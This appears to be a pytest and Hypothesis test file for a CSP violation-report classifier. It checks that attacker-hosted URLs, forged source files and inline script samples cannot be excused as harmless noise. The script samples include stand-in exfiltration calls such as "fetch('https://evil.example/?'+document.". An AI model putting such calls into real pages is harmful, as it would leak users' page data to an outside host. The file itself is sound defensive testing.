"""No rule can be met by an attacker: whatever he serves and writes, what browsers report of it is no noise.

He controls the blocked URL wholly, on hosts of his own; the code that is blocked; and in Chromium, once code
of his runs, the name of the file that it is said to come from. He controls neither the page's host nor the
user agent. What browsers name as the source file was seen in Chromium 156 and Firefox 153.
"""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.helpers import payloads, thoroughness
from tests.unit.workers.noise.labels import rule_of
from workers.noise import attackers, rules, shipped

if TYPE_CHECKING:
    from collections.abc import Iterator

PAGE: Final = "https://www.example.com/account"
DIRECTIVES: Final = (
    *("script-src", "script-src-elem", "connect-src", "frame-src", "child-src", "worker-src", "manifest-src"),
    *("form-action", "base-uri", "object-src", "default-src", "style-src", "style-src-elem", "img-src"),
    *("media-src", "font-src", "prefetch-src", "navigate-to", "fenced-frame-src"),
)
EVIL: Final = "evil.example"
BY_CLASS: Final = [
    pytest.param([rule for rule in shipped.rules_in_order() if rule.noise == name], id=name)
    for name in rules.CLASSES
]


def words(rule: rules.Rule) -> list[str]:
    """Return all that a rule asks for, as text."""
    networks = [network.partition("/")[0] for network in rule.networks]
    paths = [path.replace("*", "x") for path in rule.paths]
    hosts = [host.removeprefix(".") for host in rule.hosts]
    return [*rule.schemes, *hosts, *networks, *paths, *rule.samples, *rule.agents, *rule.details]


def own_urls(rule: rules.Rule) -> Iterator[str]:
    """Yield URLs of the attacker's that look as much like the rule as he can make them."""
    for word in words(rule):
        path = word if word.startswith("/") else f"/{word}"
        yield from (
            f"https://{EVIL}{path}",
            f"https://{EVIL}{path}/steal.js",
            f"http://{EVIL}/a{path}?{word}#{word}",
        )
        yield f"https://{EVIL}/?{word}"
        name = word.lower().replace("_", "-")
        if name.replace("-", "").replace(".", "").isalnum():
            yield from (
                f"https://{name}.{EVIL}/{word}",
                f"https://evil-{name}.example/x",
                f"https://{name}@{EVIL}/x",
            )
            yield from (f"wss://{name}.evil/", f"https://{name}evil.example{path}")
    for port in rule.ports:
        yield f"http://{EVIL}:{port}/"


def forged(rule: rules.Rule) -> Iterator[str]:
    """Yield what code of the attacker's may give as its own file in Chromium."""
    yield from (f"{scheme}://abcdefghijklmnop/x.js" for scheme in rule.schemes)
    yield from rule.schemes
    for host in rule.hosts:
        yield from (
            f"https://{host.removeprefix('.')}{path.replace('*', 'x')}" for path in rule.paths or ("/x.js",)
        )
    yield from own_urls(rule)


def some(texts: Iterator[str]) -> Iterator[str]:
    """Yield all texts, or each fifth under the profile ``quick``: lists of hosts are long."""
    return itertools.islice(texts, 0, None, thoroughness.size(1, 5))


def code(rule: rules.Rule) -> Iterator[str]:
    """Yield beginnings of code of the attacker's."""
    yield "fetch('https://evil.example/?'+document."
    for word in words(rule):
        yield from (word, f"{word};fetch('//evil.example')", f"/*{word}*/fetch('//evil.example')")


@pytest.mark.parametrize("listed", BY_CLASS)
@pytest.mark.parametrize("agent", [payloads.CHROME, payloads.FIREFOX, payloads.SAFARI])
def test_what_comes_from_the_attackers_host_is_no_noise(listed: list[rules.Rule], agent: str) -> None:
    for rule in listed:
        for number, url in enumerate(some(own_urls(rule))):
            directive = DIRECTIVES[number % len(DIRECTIVES)]
            for source in (None, PAGE, url):
                members = {"blocked_uri": url, "effective_directive": directive, "source_file": source}
                assert rule_of(payloads.legacy(**members), agent=agent) == "", members


@pytest.mark.parametrize("listed", BY_CLASS)
def test_code_that_runs_cannot_excuse_what_it_calls(listed: list[rules.Rule]) -> None:
    for rule in listed:
        for number, source in enumerate(some(forged(rule))):
            directive = DIRECTIVES[number % len(DIRECTIVES)]
            for blocked in (f"https://{EVIL}/steal", EVIL, "https", f"http://{EVIL}:8080"):
                members = {"blocked_uri": blocked, "effective_directive": directive, "source_file": source}
                assert rule_of(payloads.legacy(**members)) == "", members


@pytest.mark.parametrize("listed", BY_CLASS)
@pytest.mark.parametrize("agent", [payloads.CHROME, payloads.FIREFOX])
def test_code_that_is_written_into_the_page_is_no_noise(listed: list[rules.Rule], agent: str) -> None:
    for rule in listed:
        for sample in some(code(rule)):
            for directive, source in (
                *(
                    (name, PAGE)
                    for name in ("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr")
                ),
                ("script-src-attr", None),
                ("script-src-elem", "about"),
                ("script-src-elem", "data"),
            ):
                members = {"blocked_uri": "inline", "effective_directive": directive, "source_file": source}
                members["script_sample"] = sample
                about_page = source in {"about", "data"} and rule.id == "about"
                label = rule_of(payloads.legacy(**members), agent=agent)
                assert label == "" or (source == "about" and label == "browser-internal about"), (
                    members,
                    about_page,
                )


@given(
    directive=st.sampled_from(DIRECTIVES),
    url=st.sampled_from([url for rule in shipped.rules_in_order() for url in own_urls(rule)]),
    source=st.sampled_from(
        [None, PAGE, *(file for rule in shipped.rules_in_order() for file in forged(rule))]
    ),
    sample=st.sampled_from([None, *(text for rule in shipped.rules_in_order() for text in code(rule))]),
)
def test_no_two_rules_together_excuse_an_attack(
    directive: str, url: str, source: str | None, sample: str | None
) -> None:
    members = {"blocked_uri": url, "effective_directive": directive, "source_file": source}
    assert rule_of(payloads.legacy(**members, script_sample=sample)) == ""


@pytest.mark.parametrize(
    "rule", [pytest.param(rule, id=rule.id) for rule in shipped.rules_in_order() if rule.is_loose]
)
def test_a_loose_rule_hides_a_picture_at_most(rule: rules.Rule) -> None:
    query = "&".join(f"{name}=1" for name in rule.queries)
    for host in (EVIL, "203.0.113.9"):
        url = f"http://{host}{rule.paths[0]}www.example.com/steal.png?{query}"
        met = [
            name for name in DIRECTIVES if rule_of(payloads.legacy(blocked_uri=url, effective_directive=name))
        ]
        assert set(met) <= {"img-src", "media-src", "font-src"}
        assert rule_of(payloads.legacy(blocked_uri="inline", source_file=url)) == ""


@pytest.mark.parametrize("listed", BY_CLASS)
def test_no_shipped_rule_can_be_met_by_an_attacker(listed: list[rules.Rule]) -> None:
    for rule in listed:
        attackers.require_unforgeable(rule)


@pytest.mark.parametrize(
    "conditions",
    [
        {"paths": ("/optout/get",)},
        {"paths": ("/x",), "directives": ("img-src",)},
        {"paths": ("/x",), "schemes": ("chrome-extension",)},
        {"schemes": ("https",)},
        {"schemes": ("inline",), "directives": ("style-src-elem",)},
        {"schemes": ("data", "foo")},
        {"networks": ("0.0.0.0/1",)},
        {"hosts": ("a.example", ".github.io")},
        {"hosts": (".windows.net",)},
        {"hosts": ("unpkg.com",)},
        {"hosts": ("s3.amazonaws.com",), "paths": ("/a", "*/b")},
        {"details": ("nulled",)},
        {"details": ("test_report", "scts"), "kinds": ("expect-ct",)},
        {"pages": (".github.io",)},
        {"policies": (".cloudfront.net",)},
        {"paths": ("/m/",), "queries": ("a", "b"), "directives": ("connect-src",)},
        {"paths": ("/m/",), "queries": ("a", "b"), "agents": ("firefox",)},
        {"paths": ("/bmi/",), "embeds_page": True, "since": {"chrome": 1}},
        {"source_starts": ("https://evil",)},
        {"schemes": ("inline",), "agents": ("chrome",)},
    ],
)
def test_a_rule_that_can_be_is_refused(conditions: dict[str, Any]) -> None:
    rule = rules.Rule(id="mine", noise="injected", origin="somewhere", **conditions)
    with pytest.raises(attackers.RuleError, match=r"^mine .*\.$"):
        attackers.require_unforgeable(rule)
